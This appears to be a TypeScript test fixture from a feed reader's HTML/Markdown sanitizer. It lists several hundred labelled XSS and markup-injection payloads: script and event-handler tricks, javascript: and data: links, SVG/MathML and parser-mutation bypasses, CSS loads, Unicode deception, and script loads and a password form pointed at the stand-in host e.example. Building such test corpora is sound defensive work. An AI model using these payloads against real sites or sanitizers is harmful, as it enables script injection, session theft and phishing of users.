/**
 * Markup that somebody writes to have it run, load, ask, cover or deceive in the reader of a feed: what each is, and the text. What
 * runs sets `hit`; what loads asks e.example. All of it is our own, one or more for each class that the published lists name.
 */
export type Attack = readonly [what: string, written: string];

const NUL = "\0";
const E = "https://e.example";
/** `javascript:` by each letter's number. */
const numbered = [..."javascript:"].map((letter) => `&#${letter.codePointAt(0)};`).join("");
const padded = [..."javascript:"].map((letter) => `&#x${(letter.codePointAt(0) ?? 0).toString(16).padStart(7, "0")}`).join("");

const scripts: readonly Attack[] = [
  ["script", "<script>hit=1</script>"],
  ["script from elsewhere", `<script src=${E}/x.js></script>`],
  ["script without a protocol, broken over lines", `<script\nsrc\n=\n"//e.example/x.js"\n></script\n>`],
  ["script in a script", "<scr<script>ipt>hit=1</scr</script>ipt>"],
  ["script of two tags at once", "<<script>hit=1;//<</script>"],
  ["script with an end that has attributes", "<script>hit=1</script x=y>"],
  ["script never closed", `<p>x</p><script src="${E}/x.js"><p>y`],
  ["module", `<script type=module>import "${E}/x.js"</script>`],
  ["import map", `<script type=importmap>{"imports":{"x":"${E}/x.js"}}</script>`],
  ["speculation rules", `<script type=speculationrules>{"prerender":[{"urls":["${E}/"]}]}</script>`],
  ["script of another language", "<script language=vbscript>hit=1</script><script type='text/ecmascript'>hit=1</script>"],
  ["script with a form feed for a space", "<script\f>hit=1</script\f>"],
  ["script behind a NUL", `<scr${NUL}ipt>hit=1</scr${NUL}ipt><${NUL}script>hit=1</script>`],
  ["script in capitals of other alphabets", "<ſcript>hit=1</ſcript><scrıpt>hit=1</scrıpt>"],
  ["script in full width", "＜script＞hit=1＜/script＞"],
  ["script in double references", "&amp;lt;script&amp;gt;hit=1&amp;lt;/script&amp;gt;"],
  ["script in references", "&lt;script&gt;hit=1&lt;/script&gt;"],
  ["script in a namespace", '<html:script xmlns:html="http://www.w3.org/1999/xhtml">hit=1</html:script>'],
  ["script as escaped comment", "<script><!--\nhit=1\n--></script>"],
  ["script doubly escaped", "<script><!--<script>hit=1</script>--></script>"],
];

const events: readonly Attack[] = [
  ["event of a picture", "<img src=x onerror=hit=1>"],
  ["event between slashes", "<img/src='x'/onerror='hit=1'/>"],
  ["event behind a quotation mark", `<img src="x"onerror="hit=1">`],
  ["event behind a stray quotation mark", `<img """><img src=x onerror="hit=1">">`],
  ["event in back quotes", "<img src=`x`onerror=hit=1>"],
  ["event in capitals", "<IMG SRC=x ONERROR=hit=1>"],
  ["event behind a NUL", `<img src=x ${NUL}onerror=hit=1 onerror${NUL}=hit=1>`],
  ["event behind a vertical tab", "<img src=x\vonerror=hit=1 \vonload=hit=1>"],
  ["event of a body", "<body onload=hit=1 onpageshow=hit=1 onhashchange=hit=1 background=x>"],
  ["event of focus by itself", "<input autofocus onfocus=hit=1><p tabindex=1 autofocus onfocus=hit=1>x</p>"],
  ["event of media", "<audio src onloadstart=hit=1></audio><video><source onerror=hit=1></video>"],
  ["event of details", "<details open ontoggle=hit=1><summary>x</summary>y</details>"],
  ["event of an animation", "<b style='animation:a 1s' onanimationstart=hit=1>x</b><style>@keyframes a{}</style>"],
  ["event of a marquee", "<marquee onstart=hit=1>x</marquee><blink onmouseover=hit=1>x</blink>"],
  ["event of a popover", "<button popovertarget=p>x</button><b popover id=p onbeforetoggle=hit=1>y</b>"],
  ["event of scrolling", "<p onscrollsnapchange=hit=1 oncontentvisibilityautostatechange=hit=1 style=content-visibility:auto>x</p>"],
  ["event that nobody knows yet", "<p on-new-thing=hit=1 onnewthing=hit=1>x</p>"],
];

const links: readonly Attack[] = [
  ["javascript:", `<a href="javascript:hit=1">x</a>`],
  ["javascript: in mixed case", `<a href=jAvAsCrIpT:hit=1>x</a>`],
  ["javascript: by numbers", `<a href="${numbered}hit=1">x</a>`],
  ["javascript: by padded numbers without ends", `<a href="${padded}hit=1">x</a>`],
  ["javascript: by names", `<a href="java&Tab;script&colon;hit=1">x</a><a href="java&NewLine;script:hit=1">x</a>`],
  ["javascript: over lines", `<a href="\n\tjava\r\nscript\n:\thit=1">x</a>`],
  ["javascript: behind every control", `<a href="${Array.from({ length: 32 }, (_, code) => `&#${code};`).join("")}javascript:hit=1">x</a>`],
  [
    "javascript: behind odd spaces",
    `<a href="\u00A0javascript:hit=1">x</a><a href="\u2028javascript:hit=1">x</a><a href="\uFEFFjavascript:hit=1">x</a>`,
  ],
  ["javascript: behind a comment", `<a href="javascript://e.example/%0Ahit=1">x</a>`],
  [
    "javascript: behind view-source and feed",
    `<a href="feed:javascript:hit=1">x</a><a href="view-source:javascript:hit=1">x</a><a href="jar:javascript:hit=1!/">x</a>`,
  ],
  ["vbscript: and livescript:", `<a href="vbscript:hit=1">x</a><a href="livescript:hit=1">x</a><a href="mocha:hit=1">x</a>`],
  ["data: pages", `<a href="data:text/html,<script>hit=1</script>">x</a><a href="data:;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==">x</a>`],
  [
    "blob:, file:, about:, chrome:",
    `<a href="blob:${E}/x">x</a><a href="file:///etc/passwd">x</a><a href="about:blank">x</a><a href="chrome://settings">x</a>`,
  ],
  [
    "addresses of other programs",
    `<a href="ms-msdt:x">x</a><a href="intent://x#Intent;end">x</a><a href="x-apple:x">x</a><a href="ws://e.example">x</a>`,
  ],
  [
    "an address with a name and a word",
    `<a href="https://wire.example@e.example/">x</a><a href="https:\\\\e.example\\x">x</a><a href="///e.example/x">x</a>`,
  ],
  ["picture by javascript:", `<img src="javascript:hit=1"><img dynsrc="javascript:hit=1"><img lowsrc="javascript:hit=1">`],
  [
    "set of pictures",
    `<img srcset="javascript:hit=1, data:text/html,x 2x, ,,x 3x"><picture><source srcset="javascript:hit=1 1x"><img src=javascript:hit=1></picture>`,
  ],
  ["picture by data: with a script", `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='hit=1'/%3E">`],
  [
    "poster, cite, background, longdesc, profile",
    `<video poster="javascript:hit=1" src=x></video><q cite="javascript:hit=1">x</q><table background="javascript:hit=1"><td background="javascript:hit=1">x</table><img src=x longdesc="javascript:hit=1">`,
  ],
  ["link that tells", `<a href=/x ping="${E}/p" target=_top rel=opener attributionsrc="${E}/a" download=x.exe>x</a>`],
  ["link in a table's header and list", `<th headers="javascript:hit=1">x</th><menu><a href="javascript:hit=1">x</a></menu>`],
];

const elements: readonly Attack[] = [
  ["frame", `<iframe src="javascript:hit=1"></iframe><iframe src="${E}/"></iframe>`],
  ["frame with a page", `<iframe srcdoc="<script>parent.hit=1</script>"></iframe><iframe srcdoc='&lt;img src=x onerror=parent.hit=1&gt;'>`],
  ["frame that hides markup", `<iframe><img src=x onerror=hit=1></iframe><noframes><img src=x onerror=hit=1></noframes>`],
  ["frame set", `<frameset onload=hit=1><frame src="javascript:hit=1"></frameset>`],
  ["fenced frame and portal", `<fencedframe src="${E}/"></fencedframe><portal src="${E}/"></portal>`],
  [
    "object and embed",
    `<object data="javascript:hit=1"></object><embed src="${E}/x.swf" allowscriptaccess=always><object classid=clsid:x><param name=url value=javascript:hit=1></object>`,
  ],
  [
    "object with a page of data",
    `<object data="data:text/html,<script>parent.hit=1</script>"></object><embed src="data:text/html;base64,PHNjcmlwdD4=">`,
  ],
  ["applet", `<applet code=x codebase=${E}/><img src=x onerror=hit=1></applet>`],
  ["refresh", `<meta http-equiv=refresh content="0;url=javascript:hit=1"><meta http-equiv="refresh" content="0; ${E}/">`],
  [
    "policy and cookie by meta",
    `<meta http-equiv=Set-Cookie content="a=b"><meta http-equiv=Content-Security-Policy content="default-src 'none'"><meta charset=utf-7>`,
  ],
  ["base", `<base href="${E}/"><a href=a>x</a><img src=b><base target=_blank>`],
  [
    "links that load",
    `<link rel=stylesheet href="${E}/x.css"><link rel=preload as=script href="${E}/x.js"><link rel=prefetch href=${E}/><link rel=dns-prefetch href=//e.example><link rel=icon href=${E}/i>`,
  ],
  [
    "form",
    `<form action="javascript:hit=1"><input type=submit value=x><input type=image src=x onerror=hit=1><button formaction="javascript:hit=1">y</button></form>`,
  ],
  [
    "form that asks for a password",
    `<form action="${E}/" method=post>Name <input name=a><input type=password autofocus><textarea name=b>x</textarea><select><option>y</select></form>`,
  ],
  [
    "field outside its form",
    `<form id=f></form><button form=f formaction="${E}/">x</button><input type=checkbox form=f formaction=javascript:hit=1 onclick=hit=1>`,
  ],
  ["dialog that is open", "<dialog open onclose=hit=1><p>x</p></dialog>"],
  ["plain text to the end", "<plaintext><b>x</b>"],
  ["listing and xmp", "<listing>&lt;img src=x onerror=hit=1&gt;</listing><xmp><img src=x onerror=hit=1></xmp>"],
  [
    "isindex, keygen, command",
    "<isindex action=javascript:hit=1 type=image><keygen autofocus onfocus=hit=1><command icon=javascript:hit=1>",
  ],
  ["own elements", `<x-y is=script onclick=hit=1>x</x-y><p is=x-y>y</p><script is=x-y>hit=1</script>`],
  ["shadow", "<div><template shadowrootmode=open><img src=x onerror=hit=1></template></div>"],
  ["slot and part", "<slot onslotchange=hit=1><b slot=x part=y>z</b></slot>"],
  [
    "canvas and map",
    `<canvas onclick=hit=1>x</canvas><map name=m><area shape=default href="javascript:hit=1"></map><img src=x usemap=#m ismap>`,
  ],
  ["track and source", `<video src=x><track src="${E}/x.vtt" default oncuechange=hit=1 onload=hit=1></video>`],
  [
    "bgsound, layer, ilayer, xml",
    `<bgsound src="javascript:hit=1"><layer src="${E}/x"></layer><xml id=x><a><b>&lt;img src=x onerror=hit=1&gt;</b></a></xml>`,
  ],
];

const styles: readonly Attack[] = [
  ["style that loads", `<style>@import "${E}/x.css"; body{background:url(${E}/b)} @font-face{font-family:x;src:url(${E}/f)}</style>`],
  ["style in an attribute", `<p style="background:url('${E}/b');position:fixed;inset:0;z-index:9999;opacity:0">x</p>`],
  ["expression and binding", `<p style="width:expression(hit=1);-moz-binding:url(${E}/x#x);behavior:url(x.htc)">x</p>`],
  ["style with escapes", `<p style="b\\61ckground:u\\72l(${E}/b);/**/width:ex/**/pression(hit=1)">x</p>`],
  ["style that is never closed", `<style>p{background:url(${E}/b)}`],
  ["style that closes elsewhere", `<style><a title="</style><img src=x onerror=hit=1>"></style>`],
  ["cover over the page", `<div style="position:fixed;top:0;left:0;width:100%;height:100%"><a href="${E}/">x</a></div>`],
  [
    "hidden words",
    `<p style="display:none">spam</p><p hidden>spam</p><font color=white size=1>spam</font><p aria-hidden=true inert>spam</p>`,
  ],
  ["class of the page's own", `<p class="mast story faint byline">x</p><div class=body id=main>y</div>`],
];

const spaces: readonly Attack[] = [
  ["vector image", `<svg onload=hit=1><script>hit=1</script><script href="${E}/x.js" /></svg>`],
  [
    "vector image with a foreign object",
    "<svg><foreignObject><img src=x onerror=hit=1><iframe srcdoc='<script>parent.hit=1</script>'></iframe></foreignObject></svg>",
  ],
  [
    "vector image that animates",
    `<svg><a><animate attributeName=href values=javascript:hit=1 /><set attributeName=onmouseover to=hit=1 /><text y=20>x</text></a></svg>`,
  ],
  [
    "vector image that uses another",
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a xlink:href='javascript:hit=1'/></svg>#x" /><image href="${E}/i" /><feImage href="${E}/f" /></svg>`,
  ],
  ["vector image with a style", `<svg><style>@import "${E}/x.css";</style><style><img src=x onerror=hit=1></style></svg>`],
  [
    "vector image with a title and a description",
    "<svg><title><img src=x onerror=hit=1></title><desc><img src=x onerror=hit=1></desc></svg>",
  ],
  ["vector image with CDATA", "<svg><![CDATA[><img src=x onerror=hit=1>]]></svg><![CDATA[<img src=x onerror=hit=1>]]>"],
  ["vector image that a paragraph ends", "<svg></p><style><a id='</style><img src=x onerror=hit=1>'>"],
  [
    "mathematics",
    `<math href="javascript:hit=1"><mi xlink:href="javascript:hit=1">x</mi><maction actiontype=statusline href=javascript:hit=1>y</maction></math>`,
  ],
  [
    "mathematics and glyphs",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit=1&gt;'></table></mtext></math>",
  ],
  ["mathematics in forms", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=hit=1 src>'>"],
  [
    "mathematics with an annotation",
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit=1></style></annotation-xml></math>`,
  ],
  ["mathematics with an unknown mark", "<math><!--<x title='--><img src=x onerror=hit=1>'>"],
];

const mutations: readonly Attack[] = [
  ["noscript", `<noscript><p title="</noscript><img src=x onerror=hit=1>"></noscript>`],
  ["noscript in an attribute of two", `<noscript><style></noscript><img src=x onerror=hit=1></style></noscript>`],
  [
    "title and text area",
    `<title><p title="</title><img src=x onerror=hit=1>"></title><textarea><p title="</textarea><img src=x onerror=hit=1>"></textarea>`,
  ],
  ["comment that ends early", "<!--><img src=x onerror=hit=1>--><!---><img src=x onerror=hit=1>--><!-- --!><img src=x onerror=hit=1> -->"],
  ["comment in a comment", "<!-- <!-- --> <img src=x onerror=hit=1> -->"],
  ["comment that never ends", "<p>x</p><!-- <img src=x onerror=hit=1>"],
  ["comment with conditions", "<!--[if IE]><img src=x onerror=hit=1><![endif]--><![if IE]><img src=x onerror=hit=1><![endif]>"],
  ["instruction", `<?xml version="1.0"?><?php echo '<img src=x onerror=hit=1>' ?><?import namespace=t ns=x?><% hit=1 %>`],
  ["doctype with entities", `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=hit=1>">]><p>&y;</p>`],
  ["tag that never ends", `<p>x</p><img src=x onerror=hit=1 `],
  ["attribute that never ends", `<p>x</p><a title="<img src=x onerror=hit=1>`],
  ["end tag with attributes", `</p onclick=hit=1><p>x</p></ onclick=hit=1><img src=y>`],
  ["paragraph that ends where it did not begin", "<p></p></p></br></p><a></p><p onclick=hit=1>x</a>"],
  [
    "table that throws out",
    "<table><a href=javascript:hit=1>x<tr><script>hit=1</script><td><table><img src=x onerror=hit=1><caption><select><td>y",
  ],
  ["form in a form", `<form><div></form><form><img src=x onerror=hit=1></form></div><form id=x><input form=x onfocus=hit=1 autofocus>`],
  [
    "choice",
    "<select><template><img src=x onerror=hit=1></template><img src=x onerror=hit=1><style></select><img src=x onerror=hit=1></style>",
  ],
  ["template", `<template><script>hit=1</script><p title="</template><img src=x onerror=hit=1>"></p></template>`],
  ["links in links", `<a href=/1><a href=/2><b><a href=javascript:hit=1>x</b></a><div><a href=/3>y`],
  ["marks that cross", "<b><i><p onclick=hit=1></b><u>x</i></p></u><font onclick=hit=1><p>y"],
  ["head in the body", "<body><head><script>hit=1</script></head><html onclick=hit=1 manifest=x><body onload=hit=1>"],
  ["back quotes in a value", "<img alt='``onerror=hit=1' src=x><p title='`><img src=x onerror=hit=1>'>x</p>"],
  ["signs in a value", `<p title="&lt;/p&gt;&lt;img src=x onerror=hit=1&gt;&quot;&#39;&#x60;">x</p>`],
  ["references in a value, twice over", `<p title="&amp;quot;&amp;gt;&amp;lt;img src=x onerror=hit=1&amp;gt;">x</p>`],
  ["end of CDATA in the text", `<p>]]&gt;<b>]]></b>]]]]><![CDATA[></p><p title="]]>">x</p>`],
];

const deceptions: readonly Attack[] = [
  [
    "names that shadow the page's",
    `<a id=location href="${E}/">x</a><img name=cookie src=x><form name=body><input name=parentNode><input id=attributes></form><b id=hit>y</b>`,
  ],
  ["name that is a prototype", `<a id=__proto__ name=constructor>x</a><p id=toString title=hasOwnProperty>y</p>`],
  ["signs of direction", `<p>\u202Ehit\u202C \u2066x\u2069 <bdo dir=rtl>y</bdo> <a href="${E}/" title="\u202Egnp.exe">z</a></p>`],
  ["letters of no width and tags of emoji", "<p>s\u200Bc\u200Dr\u2060i\u00ADp\u{E0001}t \u{E0073}\u{E0063} x</p>"],
  ["separators of lines", "<p title='\u2028\u2029\u0085'>x\u2028y\u2029z</p>"],
  ["letters heaped with marks", `<p>x${"\u0336\u0489".repeat(200)}</p>`],
  ["UTF-7", "<p>+ADw-script+AD4-hit=1+ADw-/script+AD4-</p>"],
  ["old escapes", "<p>\u001B$B\u001B(J¼script¾hit=1¼/script¾</p>"],
  [
    "our own marks",
    `<a href="wireroom-self:#x">x</a><img src="wireroom-media:/x;javascript:hit=1"><p title='"wireroom-media:x;javascript:hit=1"'>wireroom-media:x;y ="wireroom-media:x;y"</p>`,
  ],
  ["templates of pages", "<p>{{constructor.constructor('hit=1')()}} \u0024{hit=1} #{hit=1} <%= hit=1 %> [[hit=1]] {%raw%}</p>"],
  [
    "attributes of page scripts",
    `<p ng-init="hit=1" v-html="hit=1" x-data="hit=1" @click="hit=1" :title="hit=1" data-bind="hit=1" hx-get="${E}/" hx-trigger=load data-hx-get=x>x</p>`,
  ],
  [
    "microdata that names others",
    `<p itemscope itemtype=x itemprop=author typeof=x property=og:title resource="javascript:hit=1" about="javascript:hit=1">x</p>`,
  ],
];

/** In Markdown, these; all of the above are tried there as well. */
const inMarkdown: readonly Attack[] = [
  ["javascript: link", "[x](javascript:hit=1) [x](  javascript:hit=1 ) [x](<javascript:hit=1>) [x](JAVASCRIPT:hit=1)"],
  ["javascript: in references", "[x](&#106;avascript&colon;hit=1) [x](java&Tab;script:hit=1) [x](\\javascript:hit=1)"],
  ["javascript: by a reference", "[x][a] [a] ![a]\n\n[a]: javascript:hit=1 'title'\n[b]: data:text/html,x\n\n[b]"],
  ["javascript: by itself", "<javascript:hit=1> <JaVaScRiPt:hit=1> <data:text/html,hit> <vbscript:x>"],
  ["picture", '![x](javascript:hit=1) ![x](data:image/svg+xml,<svg/onload=hit=1>) !["onerror=hit=1](x)'],
  ["title that ends its quotation", `[x](/y "a\\"onmouseover=hit=1 b") ![x](/y 'a"onerror="hit=1') [x](/y "<script>hit=1</script>")`],
  ["address that ends its quotation", `[x](/y"onmouseover=hit=1) [x](</y"onmouseover="hit=1>) <https://e.example/"onmouseover="hit=1>`],
  ["language of code", '```x"onclick=hit=1><script>hit=1</script>\ny\n```\n\n~~~ x y" onclick="hit=1\nz\n~~~'],
  ["markup over blocks", "<p title='\n\n'><img src=x onerror=hit=1>\n\n> <script>\n> hit=1\n\n- <img src=x\n  onerror=hit=1>"],
  ["table and its cells", `|a|b|\n|-|:-:|\n|<img src=x onerror=hit=1>|[x](javascript:hit=1)|`],
  ["name of a note", `x[^"><img_src=x_onerror=hit=1>]\n\n[^"><img_src=x_onerror=hit=1>]: <img src=x onerror=hit=1> [y](javascript:hit=1)`],
  ["box of a task", "- [ ] <input type=checkbox onclick=hit=1 autofocus onfocus=hit=1>\n- [x] <img src=x onerror=hit=1>"],
];

export const inHtmlAndMarkdown: readonly Attack[] = [
  ...scripts,
  ...events,
  ...links,
  ...elements,
  ...styles,
  ...spaces,
  ...mutations,
  ...deceptions,
];
export const inMarkdownAlone = inMarkdown;
